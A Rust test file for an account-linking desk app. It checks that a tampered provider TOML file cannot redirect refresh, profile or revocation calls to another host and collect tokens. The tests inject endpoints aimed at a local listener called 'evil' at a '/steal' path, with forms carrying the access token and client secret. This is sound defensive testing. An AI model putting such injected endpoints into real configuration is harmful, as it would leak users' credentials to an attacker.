//! A provider file that is swapped under an account to collect its tokens.
//!
//! The other host listens on a port of its own and must not be contacted at all.

use std::fs;
use std::net::TcpListener;

use linkdesk::bridge::{ClientChange, Command, ProblemKind, SecretChange};
use linkdesk::ids::AccountId;
use linkdesk::sandbox::Mode;
use linkdesk::secret::Secret;

use crate::desk::person::Decision;
use crate::desk::{Desk, id};

const BUILT_IN: &str = include_str!("../../../assets/providers/biggerplate.toml");

/// A file of the user's own for a practice provider.
fn own_file(base_url: &str) -> String {
    BUILT_IN
        .replace("id = \"biggerplate\"", "id = \"own\"")
        .replace("https://accounts.biggerplate.com", base_url)
        .replace("https://api.biggerplate.com", base_url)
        .replace("http://localhost:13524/", "http://localhost/")
}

/// Ends the program, puts the file in its place, and starts again.
fn restart_with(desk: Desk, file: &str) -> Desk {
    let providers = desk.provider_files();
    let room = desk.close();
    fs::create_dir_all(&providers).unwrap();
    fs::write(providers.join("own.toml"), file).unwrap();
    Desk::open(room, Decision::Allow)
}

/// A desk with one account of the honest file.
fn linked(honest: impl FnOnce(&str) -> String) -> (Desk, String, AccountId) {
    let desk = Desk::lasting(Mode::Documented);
    let practice = desk
        .practice
        .ready()
        .provider("biggerplate")
        .unwrap()
        .clone();
    let honest = honest(&practice.base_url);
    let desk = restart_with(desk, &honest);
    let change = ClientChange {
        client_id: Some(practice.client_id),
        client_secret: SecretChange::Set(Secret::new(practice.client_secret)),
        ..ClientChange::default()
    };
    let provider = id("own");
    let finished = desk.run(Command::SaveClient { provider, change });
    assert_eq!(finished.problem, None);
    let account = desk.link("own");
    let (finished, _) = desk.refresh(&account.id);
    assert_eq!(finished.problem, None, "the honest file refreshes");
    (desk, honest, account.id)
}

#[test]
fn a_swapped_file_collects_no_token_whichever_address_it_changes() {
    let evil = TcpListener::bind("127.0.0.1:0").unwrap();
    evil.set_nonblocking(true).unwrap();
    let elsewhere = format!("http://{}/steal", evil.local_addr().unwrap());
    let (mut desk, honest, account) = linked(own_file);
    let profile = honest
        .lines()
        .find(|line| line.contains("/users/me"))
        .unwrap();
    let at_elsewhere = format!("endpoint = \"{elsewhere}\"");
    for swapped in [
        honest.replace(profile, &at_elsewhere),
        honest.replace("[[refresh]]", &format!("[[refresh]]\n{at_elsewhere}")),
        format!("{honest}\n[[revocation]]\n{at_elsewhere}\nform = [\"token={{access_token}}\"]\n"),
    ] {
        assert_ne!(swapped, honest);
        desk = restart_with(desk, &swapped);
        let (finished, card) = desk.refresh(&account);
        let kind = ProblemKind::ClientRejected {
            code: "client_changed".to_owned(),
        };
        assert_eq!(finished.problem.map(|problem| problem.kind), Some(kind));
        assert_eq!(card.needs_sign_in, None, "the link itself is untouched");
        assert!(evil.accept().is_err(), "the other host was contacted");
    }
    desk = restart_with(desk, &honest);
    let (finished, _) = desk.refresh(&account);
    assert_eq!(
        finished.problem, None,
        "with its own file all is well again"
    );
}

#[test]
fn unlinking_with_a_swapped_file_forgets_without_sending_the_tokens_there() {
    let evil = TcpListener::bind("127.0.0.1:0").unwrap();
    evil.set_nonblocking(true).unwrap();
    let elsewhere = evil.local_addr().unwrap();
    let (desk, honest, account) = linked(own_file);
    let swapped = format!(
        "{honest}\n[[revocation]]\nendpoint = \"http://{elsewhere}/\"\n\
         form = [\"token={{access_token}}\", \"client_secret={{client_secret}}\"]\n"
    );
    let desk = restart_with(desk, &swapped);
    let finished = desk.run(Command::UnlinkAccount {
        account: account.clone(),
    });
    let problem = finished.problem.unwrap();
    assert_eq!(problem.kind.code(), "not_revoked");
    assert!(desk.face.snapshot().account(&account).is_none());
    assert!(evil.accept().is_err(), "the other host was contacted");
}
